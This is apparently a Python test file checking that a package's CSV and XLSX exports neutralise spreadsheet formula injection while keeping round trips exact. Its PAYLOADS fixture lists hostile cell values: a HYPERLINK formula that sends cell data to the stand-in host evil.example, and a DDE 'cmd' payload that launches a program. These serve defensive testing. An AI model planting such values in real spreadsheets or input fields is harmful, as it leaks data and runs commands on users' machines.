"""Issue 16, class 1: exports never carry live spreadsheet formulas, and round trips stay exact."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from iprisk.errors import Problem
from iprisk.formats import problems_to_csv, read_seizures, write_table
from iprisk.security import neutralise, restore
from iprisk.security.cells import TRIGGERS, neutralise_array, restore_array
from tests.formats._data import seizure_row, write_csv

#: Texts that start like formulas, with quotes and triggers in every order.
_FORMULAS = st.text(alphabet="'=+-@\t\rAB(\"", max_size=8).map(lambda t: t + "x")


@given(st.one_of(_FORMULAS, st.text(max_size=30)))
def test_neutralise_is_inert_and_reversible(text: str) -> None:
    cell = neutralise(text)
    assert not cell[:1] or cell[0] not in TRIGGERS  # a spreadsheet reads it as text
    assert restore(cell) == text
    column = pa.array([text, cell])
    assert restore_array(neutralise_array(column)).to_pylist() == [text, cell]


def _hostile_rows(payloads: list[str]) -> list[dict[str, str]]:
    return [seizure_row(i, right_holder_ref=p) for i, p in enumerate(payloads, start=1)]


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "'=x",
]


def test_csv_export_is_inert_and_resubmits_to_the_same_hash(tmp_path: Path) -> None:
    batch = read_seizures(write_csv(_hostile_rows(PAYLOADS), tmp_path / "in.csv"))
    out = write_table(batch.table, tmp_path / "export.csv")
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [row["right_holder_ref"] for row in csv.DictReader(fh)]
    assert all(c[0] not in TRIGGERS for c in cells)
    assert read_seizures(out).content_hash == batch.content_hash


def test_xlsx_export_holds_no_formula_and_resubmits_to_the_same_hash(tmp_path: Path) -> None:
    batch = read_seizures(write_csv(_hostile_rows(PAYLOADS), tmp_path / "in.csv"))
    out = write_table(batch.table, tmp_path / "export.xlsx")
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    assert read_seizures(out).content_hash == batch.content_hash


def test_errors_out_cells_are_inert(tmp_path: Path) -> None:
    out = problems_to_csv([Problem("code", "bad", 1, "flow", "=1+1", "a.csv")], tmp_path / "e.csv")
    with out.open(encoding="utf-8", newline="") as fh:
        assert next(csv.DictReader(fh))["value"] == "'=1+1"


def test_submissions_csv_is_inert(tmp_path: Path, run, fresh_settings: None) -> None:
    wh = tmp_path / "wh.duckdb"
    good = write_csv([seizure_row(1)], tmp_path / "a.csv")
    assert run("submit", good, "-w", wh, "--user", "=HYPERLINK(1)")[0] == 0
    code, out, _ = run("submissions", "-w", wh, "--format", "csv")
    rows = list(csv.DictReader(out.splitlines()))
    assert code == 0 and rows[0]["submitted_by"] == "'=HYPERLINK(1)"
